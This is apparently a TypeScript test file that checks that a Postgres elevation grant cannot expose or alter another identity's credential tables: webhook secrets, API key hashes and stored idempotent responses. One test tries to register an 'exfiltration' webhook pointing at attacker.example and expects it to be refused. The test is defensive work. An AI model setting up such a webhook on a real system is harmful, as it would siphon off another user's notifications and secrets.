/**
 * Door: credentials under an elevation (issue 13, finding 4). B1 holds an approved grant on the
 * whole of A1, read or write, and goes for A1's credentials: webhook signing secrets, API key
 * hashes, stored idempotent answers (one of which carried a new API key in clear). It sees none of
 * those rows and can create, change or delete none of them, while the grant still opens A1's data.
 * The tables closed to elevation are derived from the catalog and must be exactly the ones that
 * hold credential columns.
 */
import type { TransactionSql } from 'postgres';
import { describe, expect, it } from 'vitest';
import { classify, publicTables } from '../helpers/catalog.ts';
import { useDatabase } from '../helpers/db.ts';
import { asIdentity, SEED } from '../helpers/personas.ts';
import { inRollback, type Scenario } from '../helpers/rollback.ts';
import { CLOSED_TO_ELEVATION } from '../db/tableClasses.ts';

const { sql } = useDatabase();
const identityTables = (await publicTables(sql)).filter((t) => classify(t) === 'identity');
/** Columns that hold a credential or an answer that may carry one. */
const CREDENTIAL = /^(secret|key_hash|response|password|token)$|_secret$/;

async function grant(s: Scenario, permission: 'read' | 'write'): Promise<void> {
  await s.asOwner();
  await s.tx`insert into public.elevation_requests
      (requester_identity_id, target_identity_id, scope_type, scope_id, permission, reason, status, decided_at, expires_at)
    values (${SEED.b1}, ${SEED.a1}, 'identity', ${SEED.a1}, ${permission}, 'secrets test', 'approved', now(), now() + interval '1 hour')`;
}

const count = async (tx: TransactionSql, table: string) =>
  (await tx`select count(*)::int as n from ${tx(table)} where identity_id = ${SEED.a1}`)[0]!.n as number;

describe('credentials under an elevation', () => {
  it('are held only by tables an elevation never opens', async () => {
    const policies = await sql<{ table: string; qual: string }[]>`
      select c.relname as table, coalesce(pg_get_expr(p.polqual, p.polrelid), '') as qual
      from pg_policy p join pg_class c on c.oid = p.polrelid
      where c.relnamespace = 'public'::regnamespace and p.polcmd = 'r'`;
    const closed = identityTables
      .filter((t) => !policies.some((p) => p.table === t.name && p.qual.includes('elevated(')))
      .map((t) => t.name);
    expect(closed.sort()).toEqual([...CLOSED_TO_ELEVATION].sort());
    const holders = identityTables
      .filter((t) => t.columns.some((c) => CREDENTIAL.test(c)))
      .map((t) => t.name);
    expect(holders.sort()).toEqual([...CLOSED_TO_ELEVATION].sort());
  });

  it('stay hidden from a read grantee, who still reads the rest', async () => {
    await inRollback(sql, async (s) => {
      // an idempotent answer that carried a new key, as the API stores it
      await s.asOwner();
      await s.tx`insert into public.idempotency_keys (identity_id, key, request_hash, response, status_code)
        values (${SEED.a1}, 'create-key-1', ${'0'.repeat(64)}, '{"key": "chenu_abcdefgh_secret"}', 201)`;
      await grant(s, 'read');
      await s.as(asIdentity('b1'));
      for (const t of CLOSED_TO_ELEVATION) expect(await count(s.tx, t), t).toBe(0);
      expect(await count(s.tx, 'memory_items')).toBeGreaterThan(0);
      const leaked = await s.tx`select 1 from public.idempotency_keys where response::text like '%chenu_%'`;
      expect(leaked).toEqual([]);
    });
  });

  it("cannot be created, changed or removed by a write grantee in the owner's identity", async () => {
    await inRollback(sql, async (s) => {
      await grant(s, 'write');
      await s.as(asIdentity('b1'));
      // a webhook that would receive every later notification of A1
      const channel = await s.attempt(
        (tx) => tx`insert into public.notification_channels (identity_id, channel, name, config, secret)
                   values (${SEED.a1}, 'webhook', 'exfiltration', '{"url": "https://attacker.example/hook"}', ${'s'.repeat(32)})`,
      );
      expect(channel.state).toBe('42501');
      for (const t of CLOSED_TO_ELEVATION) {
        const upd = await s.attempt(
          (tx) => tx`update ${tx(t)} set identity_id = identity_id where identity_id = ${SEED.a1}`,
        );
        expect(upd.state === '42501' || (upd.value as unknown as { count: number }).count === 0, t).toBe(
          true,
        );
        const del = await s.attempt((tx) => tx`delete from ${tx(t)} where identity_id = ${SEED.a1}`);
        expect(del.state === '42501' || (del.value as unknown as { count: number }).count === 0, t).toBe(
          true,
        );
      }
      // a key of A1's identity minted by B1
      const key = await s.attempt(
        (tx) =>
          tx`select private.create_api_key('b1 as a1', array['all:*'], null, 'chenu_zzzzzzzz', ${'a'.repeat(64)})`,
      );
      expect(key.state).toBe('ok'); // a key of B1's own identity, never A1's
      await s.asOwner();
      const [owner] = await s.tx`select identity_id from public.api_keys where prefix = 'chenu_zzzzzzzz'`;
      expect(owner!.identity_id).toBe(SEED.b1);
    });
  });
});
